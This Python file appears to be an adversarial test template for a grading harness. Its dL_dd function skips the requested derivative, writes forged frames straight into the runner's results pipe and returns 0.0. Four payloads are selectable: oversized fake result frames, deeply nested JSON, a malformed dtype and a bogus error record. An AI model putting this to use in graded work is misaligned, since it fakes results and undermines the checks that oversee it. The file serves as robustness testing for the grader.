"""Attack: dL_dd writes forged frames straight to the runner's results pipe, then returns 0.0.
Which forgery is filled in for __FORGERY__:

- many_calls: four frames of about 1 MiB, each listing 600 calls with other parts' keys,
  to make the grader keep a copy of each slice;
- nested_header: a JSON header nested 100,000 deep (a RecursionError in a parser that recurses);
- bad_dtype: a result whose dtype is "," (numpy's dtype parser raises SyntaxError on it);
- error_line: a result saying the call raised, with a line "number" that is a string.
"""

import fcntl
import json
import os
import stat
import struct

FORGERY = "__FORGERY__"


def _results_pipe() -> int:
    """The descriptor the runner answers on: the one pipe open for writing past stderr."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                    return fd
        except OSError:
            continue
    raise RuntimeError("no results pipe")


def _frame(header: object, payload: bytes = b"") -> bytes:
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">II", len(data), len(payload)) + data + payload


def _forged() -> list[bytes]:
    if FORGERY == "many_calls":
        payload = bytes(1 << 20)
        return [
            _frame(
                {"event": "results", "part": part, "calls": [
                    {"call": k, "case": k % 40, "step": k, "dtype": "<f8", "shape": [131072],
                     "offset": 0, "nbytes": 1 << 20}
                    for k in range(600)
                ]},
                payload,
            )
            for part in ("d", "V", "W", "h")
        ]
    if FORGERY == "nested_header":
        return [_frame(b"[" * 100_000 + b"]" * 100_000)]
    if FORGERY == "bad_dtype":
        call = {"call": 0, "dtype": ",", "shape": [1], "offset": 0, "nbytes": 8}
        return [_frame({"event": "results", "part": "d", "calls": [call]}, bytes(8))]
    if FORGERY == "error_line":
        error = {"type": "ValueError", "message": "forged", "line": "7 or so", "traceback": []}
        return [_frame({"event": "results", "part": "d", "calls": [{"call": 0, "error": error}]})]
    raise ValueError(FORGERY)


def dL_dd(y_pred: float, y_gt: float) -> float:
    fd = _results_pipe()
    for frame in _forged():
        os.write(fd, frame)
    return 0.0
